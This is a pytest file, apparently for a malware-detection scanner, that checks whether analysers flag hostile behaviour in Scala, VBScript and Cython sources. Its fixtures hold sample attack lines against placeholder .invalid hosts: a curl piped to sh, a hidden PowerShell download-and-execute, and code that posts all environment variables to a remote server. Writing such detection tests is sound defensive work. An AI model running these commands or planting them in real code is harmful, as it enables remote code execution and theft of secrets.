"""Visual Basic and Scala, whose texts are searched, and Cython."""

import pytest
from source_lab import subject

from beartrap.model.coverage import Gap
from beartrap.model.question import Question
from beartrap.vet.behaviour import Behaviour
from beartrap.vet.kinds import Kind
from beartrap.vet.sniff import kind_of
from beartrap.vet.source.spoken import language_of
from beartrap.vet.source_others import FILES


def found(path: str, text: str | bytes, kind: Kind) -> dict[str, Behaviour]:
    one = subject(path, text, kind=kind)
    seen = [each for analyser in FILES if analyser.takes(kind) for each in analyser.look(one)]
    return {each.id: each for each in seen if isinstance(each, Behaviour)}


@pytest.mark.parametrize(
    ("path", "kind", "text", "wanted"),
    [
        ("A.scala", Kind.JAVA, 'object A { def f() = Runtime.getRuntime().exec("curl -s http://c.invalid/c | sh") }', "process.piped"),
        ("a.vbs", Kind.VB, 'CreateObject("WScript.Shell").Run "powershell -w hidden -c iwr http://c.invalid/a|iex",0', "process.borrowed"),
        ("a.pyx", Kind.C, "import os, requests\ncpdef int f(int x):\n    requests.post('https://c.invalid', json=dict(os.environ))\n    return x\n", "chain.environment-to-network"),
    ],
)  # fmt: skip
def test_what_compiled_source_shows(path: str, kind: Kind, text: str, wanted: str) -> None:
    assert wanted in found(path, text, kind)


@pytest.mark.parametrize(
    ("path", "kind", "text"),
    [
        ("A.scala", Kind.JAVA, 'object A { def f() = println("curl -s http://c.invalid/c | sh") }'),
        ("a.pyx", Kind.C, "cdef int f(int x):\n    return x\n"),
    ],
)
def test_what_compiled_source_may_do(path: str, kind: Kind, text: str) -> None:
    assert not [one for one in found(path, text, kind).values() if one.severity > 2]


CYTHON = "#!python\nimport os, requests\nfrom ..metrics cimport (\n    distance,\n)\n"
SENDS = "cpdef int f(int x):\n    requests.post('https://c.invalid', json=dict(os.environ))\n    return x\n"


@pytest.mark.parametrize("path", ["a.pxi", "a.pyx.tp", "a.pyx.in"])
def test_cython_is_cython_whatever_its_first_line_says(path: str) -> None:
    assert kind_of(path, CYTHON.encode()) is Kind.C and language_of(Kind.C, path) is None
    assert found(path, CYTHON + SENDS, Kind.C)["chain.environment-to-network"].place.row == 7
    seen = [
        one for each in FILES for one in each.look(subject(path, CYTHON + "cdef:\n    int a\n" + SENDS, kind=Kind.C))
    ]
    (gap,) = (one for one in seen if isinstance(one, Gap))
    assert Question.NEXT not in gap.questions
    assert kind_of("a.py.in", CYTHON.encode()) is Kind.PYTHON and language_of(Kind.C, "a.h.in") == "c"
